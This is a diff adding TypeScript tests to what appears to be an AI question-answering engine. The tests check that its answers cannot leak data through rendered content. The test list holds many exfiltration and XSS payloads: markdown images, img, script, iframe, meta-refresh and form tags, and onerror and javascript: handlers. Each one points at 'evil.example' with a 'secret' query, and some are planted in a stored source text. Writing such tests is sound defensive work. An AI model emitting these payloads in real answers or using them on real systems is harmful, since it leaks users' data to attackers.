@@ -17,6 +17,7 @@ let shelf: PassageShelf;
 let provider: ScriptedProvider;
 const bees: AskedSource = { _id: sourceId(), title: 'Bees', medium: 'timed', sourceType: 'youtube', language: 'en' };
 const tides: AskedSource = { _id: sourceId(), title: 'Tides', medium: 'paged', sourceType: 'pdf', language: 'en' };
+const canvas: AskedSource = { _id: sourceId(), title: 'Canvas', medium: 'flow', sourceType: 'web', language: 'en' };
 const foreign: AskedSource = { _id: sourceId(), title: 'Canary', medium: 'timed', sourceType: 'youtube', language: 'en' };
 
 beforeAll(async () => {
@@ -97,6 +98,33 @@ describe('an answer of a provider', () => {
     await provider.calls[0]?.closed;
     leave.abort();
     expect(await ask(withProvider(), { signal: leave.signal })).toMatchObject({ text: '', error: { code: 'interrupted' } });
+  });
+});
+
+describe('an answer that carries something out (T19)', () => {
+  const TO = 'https://evil.example/x?q=secret';
+  const CARRIERS = [
+    `![a](${TO})`, `![a][r]\n\n[r]: ${TO}`, `[![a](${TO})](${TO})`, `<img src="${TO}">`, `<IMG SRC=${TO} onerror=alert(1)>`, `<picture><source srcset="${TO}"></picture>`, `<svg onload=alert(1)>`, `<iframe src="${TO}"></iframe>`,
+    `<style>*{background:url(${TO})}</style>`, `<div style="background:url(${TO})">x</div>`, `<link rel=stylesheet href="${TO}">`, `<script src="${TO}"></script>`, `<video poster="${TO}">`, `<audio src="${TO}">`, `<object data="${TO}">`, `<embed src="${TO}">`,
+    `<base href="${TO}">`, `<meta http-equiv=refresh content="0;${TO}">`, `<form action="${TO}"><input autofocus>`, `<${TO}>`, '<!-- x --><img src=x>', `<?xml-stylesheet href="${TO}"?>`, `![a](data:image/svg+xml;base64,AAAA)`, `[^1]\n\n[^1]: ![a](${TO})`, `<a href="javascript:alert(1)">x</a>`,
+  ];
+  const AROUND = ['So: X', '- a\n- X', '> X', '| a | b |\n|---|---|\n| ` | X | ` |', 'a ` b X'];
+  it('has no picture and no HTML that is alive, however it comes', async () => {
+    const engine = withProvider();
+    for (const around of AROUND) {
+      const written = CARRIERS.map((it) => around.replace('X', () => it)).join('\n\n');
+      provider.script(speaks(...written.match(/[\s\S]{1,7}/g) ?? []));
+      const { text, error } = await ask(engine);
+      expect(error).toBeUndefined();
+      expect(text).toContain('evil.example');
+      expect(text).not.toMatch(/(?<!\\)<[a-z/!?]|!\[/i);
+    }
+  });
+  it('is not made offline either', async () => {
+    await shelf.putTexts(ownerId, canvas, ['Honey bees dance on the canvas <img src="https://evil.example/x"> and ![bees](https://evil.example/y) tell where flowers are.']);
+    const { text } = await ask(offline(), { sources: [canvas] });
+    expect(text).toContain('dance on the canvas');
+    expect(text).not.toMatch(/(?<!\\)<[a-z/!?]|!\[/i);
   });
 });
 
